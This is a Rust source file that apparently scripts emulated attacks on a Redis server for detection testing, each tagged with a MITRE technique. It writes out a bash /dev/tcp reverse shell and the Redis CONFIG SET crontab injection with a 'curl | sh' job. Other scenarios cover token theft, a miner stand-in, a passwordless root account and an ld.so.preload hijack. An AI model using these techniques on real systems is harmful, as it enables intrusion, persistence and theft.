//! Attacks on redis.
//!
//! In: a target that is one. Out: scenarios. Never: another server's.

use super::moves::{ADD_USER, FETCH, POOL, PRELOAD, SECRETS, SHELL, dropped};
use crate::attacks::{Ready, Scenario, attacker, target::TOKEN_TEXT};
use anyhow::ensure;

const MODULE: &str = "redis module loaded from a shared directory";

const COMMANDS: &str = "redis commands";

/// Its scenarios.
pub(super) const ALL: &[Scenario] = &[
    Scenario {
        name: "reverse-shell",
        server: "redis",
        technique: "T1059.004",
        entry: MODULE,
        what: "a shell out of the server connects to the attacker, who looks around",
        services: &[(SHELL, Ready::Shell(&["id", "uname -a", "ls /plugins /tmp", "cat /etc/passwd", "exit"]))],
        act: |t| t.launch(&format!("exec bash -i >/dev/tcp/127.0.0.1/{SHELL} 0<&1 2>&1")).map(|()| String::new()),
        proof: "uid=0(root)",
    },
    Scenario {
        name: "secrets",
        server: "redis",
        technique: "T1552.007",
        entry: MODULE,
        what: "reads the service-account token, other processes' environments and keys",
        services: &[],
        act: |t| t.run(SECRETS),
        proof: TOKEN_TEXT,
    },
    Scenario {
        name: "miner",
        server: "redis",
        technique: "T1496",
        entry: MODULE,
        what: "fetches a stand-in for a coin miner, which hashes for 6 s and talks to a pool",
        services: &[(FETCH, Ready::Program("miner")), (POOL, Ready::Pool)],
        act: |t| t.run(dropped!("3333 6")),
        proof: "\"method\":\"submit\"",
    },
    Scenario {
        name: "cron-file",
        server: "redis",
        technique: "T1053.003",
        entry: COMMANDS,
        what: "makes the server save its data as a crontab (CONFIG SET dir), the commonest attack on open redis servers",
        services: &[],
        act: |t| {
            let job = "\n\n* * * * * root curl http://127.0.0.1:4445/x | sh\n\n";
            let set = format!("*3\r\n$3\r\nSET\r\n$1\r\nx\r\n${}\r\n{job}\r\n", job.len());
            let before = "CONFIG SET dir /etc\r\nCONFIG SET dbfilename crontab\r\nSAVE\r\nCONFIG GET dir";
            let after = "CONFIG SET dir /tmp\r\nCONFIG SET dbfilename dump.rdb\r\nDEL x\r\nQUIT";
            let mut answer = String::new();
            // A snapshot of the server's own may be under way: then it refuses, and is asked again.
            for _ in 0..5 {
                answer = attacker::ask(&t.network, 6379, format!("{set}{before}\r\n{after}\r\n").as_bytes())?;
                if !answer.contains("-ERR") {
                    break;
                }
            }
            ensure!(!answer.contains("-ERR"), "the server refused: {answer}");
            Ok(answer)
        },
        proof: "\r\n/etc\r\n",
    },
    Scenario {
        name: "user-added",
        server: "redis",
        technique: "T1136.001",
        entry: MODULE,
        what: "a second root without a password in /etc/passwd",
        services: &[],
        act: |t| t.run(ADD_USER),
        proof: "sync2::0:0",
    },
    Scenario {
        name: "preload",
        server: "redis",
        technique: "T1574.006",
        entry: MODULE,
        what: "a library for every program in /etc/ld.so.preload",
        services: &[],
        act: |t| t.run(PRELOAD),
        proof: "preloaded /tmp/.lib.so",
    },
];
